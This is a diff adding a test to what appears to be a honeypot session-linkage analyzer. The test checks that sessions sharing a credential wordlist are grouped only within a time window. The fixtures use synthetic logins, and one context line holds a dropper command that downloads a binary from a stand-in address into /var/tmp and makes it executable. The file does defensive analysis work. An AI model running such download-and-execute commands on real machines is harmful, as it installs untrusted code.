@@ -916,6 +916,24 @@ describe("linkage ranked by strength", () => {
     expect(familyOf(a, "dict-0")).toBeUndefined()
   })
 
+  test("a wordlist links sources only within the weak window: a list walked again months later, or an address back after a long silence, starts apart", () => {
+    const list = Array.from({ length: 20 }, (_, k) => login("svc", `p${k}r${(k * 7919) % 1000}t`))
+    const walkers = [0, 1].map((k) => session({ id: `walk-${k}`, ip: ip(k as 0 | 1 | 2, 40 + k), at: T0 + k * 7 * HOUR, credentials: list }))
+    // The same list from a third source 90 days on: a public list reused, not this campaign.
+    const later = session({ id: "later", ip: ip(2, 42), at: T0 + 90 * DAY, credentials: list })
+    // The first walker's address back 90 days on with other logins: not brought along.
+    const back = session({ id: "back", ip: walkers[0]!.src_ip!, at: T0 + 90 * DAY + HOUR, credentials: [login("root", "Zq8#kd02"), login("admin", "Mv3!pp71")] })
+    // Within the window (20 days on), the same list still joins.
+    const soon = session({ id: "soon", ip: ip(2, 43), at: T0 + 20 * DAY, credentials: list })
+    const a = analyze([...background(30, 307), ...walkers, later, back, soon])
+    expect(familyOf(a, "walk-0")?.sessions).toEqual(["soon", "walk-0", "walk-1"])
+    expect(familyOf(a, "later")).toBeUndefined()
+    expect(familyOf(a, "back")).toBeUndefined()
+    // With the window widened past the silence, both join: the window is what keeps them apart.
+    const wide = analyzeSessions(byStart([...background(30, 307), ...walkers, later, back, soon]), { ...DEFAULT_CONFIG, weakWindowMs: 120 * DAY })
+    expect(familyOf(wide, "walk-0")?.sessions).toEqual(["back", "later", "soon", "walk-0", "walk-1"])
+  })
+
   test("a file name dropped by several unrelated behaviours no longer links them", () => {
     const behaviours = [
       ["cd /var/tmp; wget http://192.0.2.10/x86_64; chmod +x x86_64", "echo kit-one-marker-string done here"],
